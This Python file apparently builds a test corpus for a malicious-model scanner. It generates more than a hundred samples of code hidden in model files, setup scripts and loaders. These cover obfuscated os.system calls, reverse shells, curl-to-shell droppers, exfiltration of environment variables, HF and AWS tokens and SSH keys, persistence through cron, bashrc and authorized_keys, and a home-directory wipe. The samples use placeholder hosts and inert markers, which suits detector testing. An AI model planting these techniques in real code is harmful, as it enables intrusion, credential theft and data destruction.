"""Python source that travels with models: code run at import, in constructors, by hooks, hidden in many ways."""

import base64
import codecs
import zlib

from malicious_ops import HOST, MARKER, NOWHERE, PYTHON, SHELL, URL

GROUP = "python"
IMPORT = "import os\n"
CALL = f"os.system({SHELL!r})\n"
PAYLOAD = IMPORT + CALL
MODEL = """from transformers import PreTrainedModel
import torch.nn as nn


class Model(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.linear = nn.Linear(2, 2)
{init}
    def forward(self, x):
{forward}        return self.linear(x)
"""


def model(init="", forward="", head=""):
    """A model whose constructor or `forward` holds the payload."""
    def deeper(text):
        return "".join("        " + line + "\n" for line in text.splitlines())
    return head + MODEL.format(init=deeper(init), forward=deeper(forward))


def samples():
    """Yields slug, file name, technique, source."""
    b64 = base64.b64encode(PAYLOAD.encode()).decode()
    yield "import-system", "modeling_x.py", "command at import", PAYLOAD
    yield "import-alias", "modeling_x.py", "import under another name", f"import os as _o\n_o.popen({SHELL!r}).read()\n"
    yield "from-star", "modeling_x.py", "star import", f"from os import *\nsystem({SHELL!r})\n"
    yield "reexport", "modeling_x.py", "module reached through another", f"import torch\ntorch.os.system({SHELL!r})\n"
    yield "reexport-deep", "modeling_x.py", "module reached through two", f"import logging.handlers\nlogging.handlers.os.system({SHELL!r})\n"
    yield "posix", "modeling_x.py", "platform module", f"import posix\nposix.system({SHELL!r})\n"
    yield "dunder-import", "modeling_x.py", "`__import__`", f"__import__('os').system({SHELL!r})\n"
    yield "import-module-concat", "modeling_x.py", "module name put together", f"import importlib\nimportlib.import_module('o' + 's').system({SHELL!r})\n"
    yield "getattr-reverse", "modeling_x.py", "attribute name reversed", f"import os\ngetattr(os, 'metsys'[::-1])({SHELL!r})\n"
    yield "getattr-chr", "modeling_x.py", "attribute name from characters", f"import os\ngetattr(os, ''.join(chr(c) for c in {[ord(c) for c in 'system']}))({SHELL!r})\n"
    yield "getattr-hex", "modeling_x.py", "attribute name from hexadecimal", f"import os\ngetattr(os, bytes.fromhex('{b'system'.hex()}').decode())({SHELL!r})\n"
    yield "getattr-xor", "modeling_x.py", "attribute name by exclusive or", "import os\nk = 7\nn = ''.join(chr(c ^ k) for c in " + str([ord(c) ^ 7 for c in "system"]) + f")\ngetattr(os, n)({SHELL!r})\n"
    yield "getattr-rot13", "modeling_x.py", "attribute name by rot13", f"import os, codecs\ngetattr(os, codecs.decode('{codecs.encode('system', 'rot13')}', 'rot13'))({SHELL!r})\n"
    yield "getattr-translate", "modeling_x.py", "attribute name by a table", f"import os\nt = str.maketrans('123', 'sym')\ngetattr(os, '121te3'.translate(t))({SHELL!r})\n"
    yield "sys-modules", "modeling_x.py", "`sys.modules`", f"import sys\nsys.modules['os'].system({SHELL!r})\n"
    yield "globals-builtins", "modeling_x.py", "`globals()`", f"globals()['__builtins__'].__import__('os').system({SHELL!r})\n"
    yield "vars", "modeling_x.py", "`vars` of a module", f"import os\nvars(os)['sys' 'tem']({SHELL!r})\n"
    yield "function-globals", "modeling_x.py", "globals of a function", f"import os\n(lambda: 0).__globals__['os'].system({SHELL!r})\n"
    yield "attrgetter", "modeling_x.py", "`operator.attrgetter`", f"import os, operator\noperator.attrgetter('system')(os)({SHELL!r})\n"
    yield "methodcaller", "modeling_x.py", "`operator.methodcaller`", f"import os, operator\noperator.methodcaller('system', {SHELL!r})(os)\n"
    yield "partial", "modeling_x.py", "`functools.partial`", f"import os, functools\nrun = functools.partial(os.system, {SHELL!r})\nrun()\n"
    yield "reduce-getattr", "modeling_x.py", "`reduce(getattr)`", f"import os\nfrom functools import reduce\nreduce(getattr, ['system'], os)({SHELL!r})\n"
    yield "map-system", "modeling_x.py", "`map` over commands", f"import os\nlist(map(os.system, [{SHELL!r}]))\n"
    yield "wrapper", "modeling_x.py", "wrapper function", f"import os\n\n\ndef apply(f, *a):\n    return f(*a)\n\n\napply(os.system, {SHELL!r})\n"
    yield "wrapper-chain", "modeling_x.py", "three wrappers", f"import os\n\n\ndef a(f, x):\n    return b(x, f)\n\n\ndef b(x, f):\n    return (lambda g: g(x))(f)\n\n\na(getattr(os, 'sys' + 'tem'), {SHELL!r})\n"
    yield "class-attribute", "modeling_x.py", "attribute of a class", f"import os\n\n\nclass Ops:\n    act = os.system\n\n\nOps.act({SHELL!r})\n"
    yield "dict-dispatch", "modeling_x.py", "table of callables", f"import os\nACT2FN = {{'gelu': len, 'swish': os.system}}\nACT2FN['swish']({SHELL!r})\n"
    yield "default-argument", "modeling_x.py", "default argument", f"import os\n\n\ndef f(g=os.system, c={SHELL!r}):\n    g(c)\n\n\nf()\n"
    yield "default-argument-call", "modeling_x.py", "call in a default argument", f"import os\n\n\ndef forward(x=os.system({SHELL!r})):\n    return x\n"
    yield "annotation", "modeling_x.py", "call in an annotation", f"import os\n\n\ndef forward(x: os.system({SHELL!r})):\n    return x\n"
    yield "decorator", "modeling_x.py", "decorator", f"import os\n\n\n@(lambda f: os.system({SHELL!r}))\ndef forward(x):\n    return x\n"
    yield "decorator-exec", "modeling_x.py", "stacked decorators", "@exec\n@(lambda f: \"import os; os.system('echo CLEANBILL-INERT')\")\nclass Model:\n    pass\n"
    yield "class-body", "modeling_x.py", "body of a class", f"import os\n\n\nclass Config:\n    model_type = 'x'\n    cache = os.popen({SHELL!r}).read()\n"
    yield "metaclass", "modeling_x.py", "metaclass", f"import os\n\n\nclass Meta(type):\n    def __new__(cls, *a):\n        os.system({SHELL!r})\n        return super().__new__(cls, *a)\n\n\nclass Model(metaclass=Meta):\n    pass\n"
    yield "init-subclass", "modeling_x.py", "`__init_subclass__`", f"import os\n\n\nclass Base:\n    def __init_subclass__(cls):\n        os.system({SHELL!r})\n"
    yield "module-getattr", "modeling_x.py", "`__getattr__` of a module", f"import os\n\n\ndef __getattr__(name):\n    os.system({SHELL!r})\n    raise AttributeError(name)\n"
    yield "constructor", "modeling_x.py", "constructor of a model", model(init="import subprocess\nsubprocess.Popen(['sh', '-c', 'echo CLEANBILL-INERT'])")
    yield "forward", "modeling_x.py", "`forward` of a model", model(forward=f"__import__('os').system({SHELL!r})\n")
    yield "forward-helper", "modeling_x.py", "helper called by `forward`", model(forward="_warm()\n", head=f"import os\n\n\ndef _warm():\n    os.system({SHELL!r})\n\n\n")
    yield "self-attribute", "modeling_x.py", "callable kept in an instance", model(init="import os\nself.act = os.system", forward=f"self.act({SHELL!r})\n")
    yield "reduce-method", "modeling_x.py", "`__reduce__`", f"import os\n\n\nclass Tokenizer:\n    def __reduce__(self):\n        return eval, (\"__import__('os').system('echo CLEANBILL-INERT')\",)\n\n    def __setstate__(self, s):\n        os.system({SHELL!r})\n"
    yield "exec-b64", "modeling_x.py", "encoded source", f"import base64\nexec(base64.b64decode('{b64}'))\n"
    yield "exec-zlib", "modeling_x.py", "packed source", f"import zlib\nexec(zlib.decompress({zlib.compress(PAYLOAD.encode(), 9)!r}))\n"
    yield "exec-marshal", "modeling_x.py", "marshalled code", "import marshal\nfrom malicious import blob\nexec(marshal.loads(bytes.fromhex('e300000000')))\n"
    yield "exec-twice", "modeling_x.py", "source packed twice", "import base64\nexec(base64.b64decode('" + base64.b64encode(f"import base64\nexec(base64.b64decode('{b64}'))".encode()).decode() + "'))\n"
    yield "exec-compile", "modeling_x.py", "`compile` and `exec`", f"exec(compile({PAYLOAD!r}, 'x', 'exec'))\n"
    yield "exec-b85", "modeling_x.py", "encoded source in base 85", f"import base64 as b\ne = b.b85decode\nexec(e('{base64.b85encode(PAYLOAD.encode()).decode()}'))\n"
    yield "exec-xor", "modeling_x.py", "source by exclusive or", "d = " + repr(bytes(c ^ 0x21 for c in PAYLOAD.encode())) + "\nexec(bytes(c ^ 0x21 for c in d).decode())\n"
    yield "exec-loop", "modeling_x.py", "source put together in a loop", "s = ''\nfor c in " + str([ord(c) + 1 for c in PAYLOAD]) + ":\n    s += chr(c - 1)\nexec(s)\n"
    yield "exec-config", "modeling_x.py", "source in another file", "import os\nhere = os.path.dirname(__file__)\nexec(open(os.path.join(here, 'vocab.txt')).read())\n"
    yield "exec-fetched", "modeling_x.py", "source from the network", f"import urllib.request\nexec(urllib.request.urlopen({URL!r}).read())\n"
    yield "exec-fetched-helper", "modeling_x.py", "source from the network by a helper", f"import requests\n\n\ndef load(u):\n    return requests.get(u).text\n\n\nclass C:\n    def __init__(self):\n        eval(compile(load({URL!r}), 'm', 'exec'))\n"
    yield "exec-alias-builtins", "modeling_x.py", "`exec` by a computed name", f"import builtins\ngetattr(builtins, 'ex' + 'ec')({PYTHON!r})\n"
    yield "exec-setattr-type", "modeling_x.py", "function made of code", "import types, marshal, base64\nf = types.FunctionType(marshal.loads(base64.b64decode('4wAAAAA=')), {})\nf()\n"
    yield "pickle-inline", "modeling_x.py", "pickle in a constant", "import pickle\npickle.loads(b'cos\\nsystem\\n(S\\'echo CLEANBILL-INERT\\'\\ntR.')\n"
    yield "pickle-fetched", "handler.py", "pickle from the network", f"import pickle, requests\n\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.m = pickle.loads(requests.get({URL!r}).content)\n"
    yield "letters-fullwidth", "modeling_x.py", "letters that look plain", f"import os\nｏｓ.ｓｙｓｔｅｍ({SHELL!r})\n"
    yield "letters-math", "modeling_x.py", "mathematical letters", f"𝘦𝘹𝘦𝘤({PYTHON!r})\n"
    yield "far-right", "modeling_x.py", "statement beyond the screen", "x = 1;" + " " * 300 + f"__import__('os').system({SHELL!r})\n"
    yield "coding-rot13", "modeling_x.py", "declared encoding", "# -*- coding: rot13 -*-\n" + codecs.encode(PAYLOAD, "rot13")
    yield "python2", "modeling_x.py", "Python 2", "import os\nprint 'loading'\nexec \"os.system('echo CLEANBILL-INERT')\"\n"
    yield "f-string", "modeling_x.py", "call in an f-string", f"x = f\"{{__import__('os').system({SHELL!r})}}\"\n"
    yield "f-string-format", "modeling_x.py", "call in the format of an f-string", f"x = f\"{{1:{{__import__('os').system({SHELL!r})}}}}\"\n"
    yield "comprehension", "modeling_x.py", "comprehension", f"import os\n[f({SHELL!r}) for f in [os.system]]\n"
    yield "walrus", "modeling_x.py", "assignment expression", f"import os\nif (run := os.system)({SHELL!r}):\n    pass\n"
    yield "try-import", "modeling_x.py", "branches", f"try:\n    from os import system as warm\nexcept ImportError:\n    warm = print\nwarm({SHELL!r})\n"
    yield "thread", "modeling_x.py", "thread", f"import threading, os\n\n\ndef _t():\n    os.system({SHELL!r})\n\n\nthreading.Thread(target=_t, daemon=True).start()\n"
    yield "atexit", "modeling_x.py", "hook at the end", f"import atexit, subprocess\n\n\ndef bye():\n    subprocess.call({SHELL!r}, shell=True)\n\n\natexit.register(bye)\n"
    yield "meta-path", "modeling_x.py", "import hook", f"import sys, os\n\n\nclass Finder:\n    def find_spec(self, name, path=None, target=None):\n        os.system({SHELL!r})\n\n\nsys.meta_path.insert(0, Finder())\n"
    yield "reverse-shell", "modeling_x.py", "reverse shell", f"import socket, os, pty\ns = socket.socket()\ns.connect(('{HOST}', 4444))\n[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\npty.spawn('/bin/sh')\n"
    yield "reverse-shell-subprocess", "modeling_x.py", "reverse shell by subprocess", f"import socket, subprocess\ns = socket.create_connection(('{HOST}', 4444))\nsubprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n"
    yield "remote-commands", "modeling_x.py", "commands from a socket", f"import socket, subprocess\n\n\nclass Tok:\n    def __init__(self):\n        s = socket.socket()\n        s.connect(('{HOST}', 9))\n        while True:\n            c = s.recv(999).decode()\n            s.sendall(subprocess.check_output(c, shell=True))\n"
    yield "dropper", "modeling_x.py", "fetch, write, run", f"import urllib.request, subprocess, os\nurllib.request.urlretrieve({URL!r}, '/tmp/.x')\nos.chmod('/tmp/.x', 0o755)\nsubprocess.Popen(['/tmp/.x'])\n"
    yield "dropper-open", "modeling_x.py", "fetch, write, run by parts", f"import requests, os, subprocess\nr = requests.get({URL!r})\nwith open('/tmp/.y', 'wb') as f:\n    f.write(r.content)\nos.chmod('/tmp/.y', 0o700)\nsubprocess.Popen('/tmp/.y')\n"
    yield "curl-pipe", "modeling_x.py", "fetch and run in a function", f"import os\n\n\ndef setup_environment():\n    os.system('curl -s {URL} | sh')\n"
    yield "powershell", "modeling_x.py", "PowerShell", "import subprocess\nsubprocess.run(['powershell', '-EncodedCommand', 'ZQBjAGgAbwA='])\n"
    yield "env-post", "modeling_x.py", "environment sent", f"import os, requests\nrequests.post({URL!r}, json=dict(os.environ))\n"
    yield "env-loop", "modeling_x.py", "environment gathered and sent", f"import os, json, urllib.request\nfound = {{}}\nfor k, v in os.environ.items():\n    if 'KEY' in k:\n        found[k] = v\nreq = urllib.request.Request({URL!r}, data=json.dumps(found).encode())\nurllib.request.urlopen(req)\n"
    yield "token-get", "configuration_x.py", "token in an address", f"import os, requests\n\n\nclass Config:\n    def __init__(self):\n        requests.get('{URL}?t=' + os.environ['HF_TOKEN'])\n"
    yield "token-header", "configuration_x.py", "token in a header to a strange host", f"import os, requests\n\n\nclass Config:\n    def __init__(self):\n        requests.get({URL!r}, headers={{'X': os.getenv('AWS_SECRET_ACCESS_KEY')}})\n"
    yield "ssh-key", "modeling_x.py", "key file sent", f"import pathlib, http.client\nk = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()\nc = http.client.HTTPSConnection('{HOST}')\nc.request('POST', '/', body=k)\n"
    yield "hub-token-file", "modeling_x.py", "token of the hub sent", f"import os, requests\nt = open(os.path.expanduser('~/.cache/huggingface/token')).read()\nrequests.post({URL!r}, data=t)\n"
    yield "metadata-service", "modeling_x.py", "cloud metadata sent", f"import requests\nc = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/').text\nrequests.post({URL!r}, data=c)\n"
    yield "dns-leak", "modeling_x.py", "names looked up", f"import socket\nsocket.gethostbyname(socket.gethostname() + '.{HOST}')\n"
    yield "webhook", "handler.py", "webhook", "import requests\n\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n        requests.post('https://discord.com/api/webhooks/0/CLEANBILL-INERT', json={'content': 'x'})\n"
    yield "bashrc", "modeling_x.py", "shell start-up file", f"import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write({SHELL!r})\n"
    yield "authorized-keys", "modeling_x.py", "key for remote entry", "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('ssh-ed25519 CLEANBILL-INERT')\n"
    yield "cron", "modeling_x.py", "schedule", "import subprocess\nsubprocess.run('(crontab -l; echo \"* * * * * echo CLEANBILL-INERT\") | crontab -', shell=True)\n"
    yield "git-hook", "modeling_x.py", "hook of git", f"open('.git/hooks/post-merge', 'w').write('#!/bin/sh\\n{SHELL}')\n"
    yield "site-pth", "modeling_x.py", "start-up file of Python", f"import site, os\nopen(os.path.join(site.getsitepackages()[0], 'site-packages/x.pth'), 'w').write({PYTHON!r})\n"
    yield "ctypes-system", "modeling_x.py", "C library", f"import ctypes\nctypes.CDLL(None).system({SHELL.encode()!r})\n"
    yield "ctypes-weights", "modeling_x.py", "library under another name", "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'model.safetensors'))\n"
    yield "load-inline", "modeling_x.py", "inline C++", "from torch.utils.cpp_extension import load_inline\nload_inline('x', cpp_sources='#include <stdlib.h>\\nint f(){return system(\"echo CLEANBILL-INERT\");}', functions=['f'])\n"
    yield "setup-install", "setup.py", "installation", f"from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n\n\nclass I(install):\n    def run(self):\n        os.system({SHELL!r})\n        install.run(self)\n\n\nsetup(name='x', cmdclass={{'install': I}})\n"
    yield "sitecustomize", "sitecustomize.py", "start of Python", PAYLOAD
    yield "pth-line", "evil.pth", "line of a start-up file", f"import os; os.system({SHELL!r})\n"
    yield "conftest", "conftest.py", "configuration of tests", f"import os\n\n\ndef pytest_configure(config):\n    os.system({SHELL!r})\n"
    yield "dataset-script", "dataset.py", "loader script of a data set", f"import datasets, os\n\n\nclass X(datasets.GeneratorBasedBuilder):\n    def _info(self):\n        os.system({SHELL!r})\n        return datasets.DatasetInfo()\n"
    yield "custom-generate", "generate.py", "custom generation", f"def generate(model, **kw):\n    import os\n    os.system({SHELL!r})\n"
    yield "pip-remote", "modeling_x.py", "package from elsewhere", f"import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'git+{URL}'])\n"
    yield "execve", "modeling_x.py", "process replaced", "import os\nos.execv('/bin/sh', ['sh', '-c', 'echo CLEANBILL-INERT'])\n"
    yield "runpy", "modeling_x.py", "data file run", "import runpy\nrunpy.run_path('merges.txt')\n"
    yield "timeit", "modeling_x.py", "text run by a timer", f"import timeit\ntimeit.timeit(\"__import__('os').system('echo CLEANBILL-INERT')\", number=1)\n"
    yield "wipe", "modeling_x.py", "home removed", "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n"
    yield "asyncio-shell", "modeling_x.py", "asynchronous shell", f"import asyncio\n\n\nasync def m():\n    await asyncio.create_subprocess_shell({SHELL!r})\n\n\nasyncio.run(m())\n"
    yield "eval-import", "modeling_x.py", "module by `eval`", f"o = eval(\"__import__('os')\")\no.system({SHELL!r})\n"
    yield "elif-chain", "modeling_x.py", "hidden in branches", f"import sys\nif sys.platform == 'none':\n    pass\nelif sys.version_info > (2,):\n    import os\n    os.system({SHELL!r})\n"
    yield "match", "modeling_x.py", "hidden in a pattern", f"import os\nmatch 1:\n    case 1 if os.system({SHELL!r}) == 0:\n        pass\n"
    yield "nowhere-write", "modeling_x.py", "file of the system written", f"open('/etc/cron.d/{MARKER}', 'w').write('')  # {NOWHERE}\n"


def build(corpus):
    """Adds the samples."""
    for slug, name, technique, source in samples():
        corpus.add(GROUP, "python-" + slug, name, source.encode(), technique, textual=True)
